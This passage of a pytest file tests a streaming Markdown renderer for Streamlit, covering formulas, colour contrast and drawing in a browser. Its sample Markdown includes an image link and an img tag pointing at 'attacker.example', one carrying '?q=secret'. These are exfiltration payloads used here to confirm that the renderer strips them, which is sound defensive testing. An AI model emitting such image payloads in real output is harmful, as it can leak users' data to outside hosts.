        "tw-formula" in Growing().update(f"{mark}\nx^2\n{end}")[1] or mark == "$$"
    )  # a line of marks waits for its end
    assert "tw-formula" in Growing().update(f"{mark}\nx^2\n{end}\n")[1]


# ---- looks -------------------------------------------------------------------------------------------------------


def colours() -> Iterator[tuple[str, tuple[str, str]]]:
    for name, light, dark in re.findall(r"--tw-([\w-]+): light-dark\((#\w{6}), (#\w{6})\)", STYLE):
        yield name, (light, dark)


def luminance(colour: str) -> float:
    parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


@pytest.mark.parametrize("theme", [0, 1])
def test_colours_of_code_can_be_read(theme: int) -> None:
    by_name = dict(colours())
    back = by_name.pop("code-back")[theme]
    assert by_name.pop("line")
    assert set(by_name) >= {"code-text", "comment", "keyword", "string", "number", "name", "type", "label"}
    assert {name: pair for name, pair in by_name.items() if contrast(pair[theme], back) < 4.5} == {}


def test_each_class_of_code_has_a_colour() -> None:
    assert {name for _, name in _COLOURS} == set(re.findall(r"\.(tw-\w) \{ color: var", STYLE))


# ---- in the browser ----------------------------------------------------------------------------------------------

SAMPLE = r"""
# A heading with $x$

It costs $5 today and $7 tomorrow. Inline \(\frac{a}{b}\), a [link](https://example.org/?a=1&b=2) and `code`,
![alt](http://attacker.example/?q=secret), <img src="http://attacker.example/x"> and
averyverylongwordthatdoesnotfit/averyverylongwordthatdoesnotfit.

$$
\begin{aligned} a &= b \\
&= \sum_{i=1}^{n} \left(\frac{i^2}{2}\right) + x_1 + x_2 + x_3 + x_4 + x_5 + x_6 + x_7 + x_8 \end{aligned}
$$

```python
print("a long line, " * 3)  # which is longer than the screen of a phone is wide, so that it has to be scrolled
```

| Item | Price | Formula | A wide column with much text |
|:-----|------:|:-------:|------------------------------|
| Tea  | $5    | \(x^2\) | some words that go on        |
"""

SCRIPT = """
import sys, time
from pathlib import Path
import streamlit as st
from gateway_ui.drawing import markdown
assets = Path(markdown.__file__).parent.with_name("assets")
st.html(assets / "markdown.css")
st.html(f"<script>{(assets / 'markdown.js').read_text()}</script>", unsafe_allow_javascript=True)
text = Path(__file__).with_name("sample.md").read_text()
if not st.button("Start"):
    st.stop()
place, growing = st.empty(), markdown.Growing()
for end in range(1, len(text), 30):
    place.html(f'<div class="tw-md">{growing.update(text[:end])[1]} </div>')
    time.sleep(0.02)
place.html(f'<div class="tw-md">{markdown.render(text)}</div>')
st.text("drawn")
"""

WATCH = """() => {
  window.late = 0;
  const look = () => {
    window.late += document.querySelectorAll("[data-tw-math]").length;
    requestAnimationFrame(look);
  };
  requestAnimationFrame(look);
}"""


@pytest.fixture(scope="module")
def sample_page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A page of Streamlit that draws the sample as it grows; gives its URL."""
    folder = tmp_path_factory.mktemp("page")
    (folder / "sample.md").write_text(SAMPLE)
    (folder / "page.py").write_text(SCRIPT)
    port = free_port()
    flags = {"port": port, "address": "localhost", "headless": "true", "fileWatcherType": "none"}
    process = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", str(folder / "page.py"), "--browser.gatherUsageStats=false"]
        + [f"--server.{name}={value}" for name, value in flags.items()],
        stdout=subprocess.DEVNULL,
        text=True,
    )
    wait_for_port(port, process)
    yield f"http://localhost:{port}"
    process.terminate()
    process.wait(30)


@pytest.mark.browser
@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [1100, 390])
async def test_streamlit_draws_all_of_it(tab: Page, sample_page: str, theme: str, width: int) -> None:
    # The tab's fixture fails the test if anything is asked for from elsewhere.
    await tab.set_viewport_size({"width": width, "height": 844})
    await tab.emulate_media(color_scheme="dark" if theme == "dark" else "light")
    await tab.add_init_script(f"({WATCH})()")
    await tab.goto(sample_page)
    # The script is there long before an answer; Streamlit runs it after it has painted.
    await tab.wait_for_function("window.tokenwireFormulas")
    await tab.get_by_text("Start", exact=True).click()
    await expect(tab.get_by_text("drawn", exact=True)).to_be_visible()
    answer = tab.locator(".tw-md")
    await expect(answer.locator("math")).to_have_count(4)
    assert await tab.evaluate("window.late") == 0  # no frame showed a formula's source first
    await expect(answer.locator("math mfrac")).to_have_count(2)
    await expect(answer.locator("img, script")).to_have_count(0)
    links = answer.locator("a")
    await expect(links).to_have_text(["link", "http://attacker.example/x"])  # the latter from HTML that is only text
    for link in await links.all():
        assert (await link.get_attribute("target"), await link.get_attribute("rel")) == (
            "_blank",
            "noopener noreferrer",
        )
    table = answer.get_by_role("region", name="Table")
    await expect(table).to_have_attribute("tabindex", "0")
    await expect(answer.locator("pre")).to_have_attribute("tabindex", "0")
    await expect(answer.locator("th.tw-center")).to_have_count(1)
    assert await answer.evaluate("one => getComputedStyle(one).colorScheme") == theme
    back = {"light": "rgb(246, 248, 250)", "dark": "rgb(36, 36, 42)"}[theme]
    await expect(answer.locator(".tw-code")).to_have_css("background-color", back)
    assert await tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
    if width == 390:
        for one in (table, answer.locator("pre"), answer.locator(".tw-formula")):
            assert await one.evaluate("one => one.scrollWidth > one.clientWidth")
            assert await one.evaluate("one => one.getBoundingClientRect().right <= innerWidth")
    await tab.screenshot(path=SCREENSHOTS / f"markdown-{theme}-{width}.png")
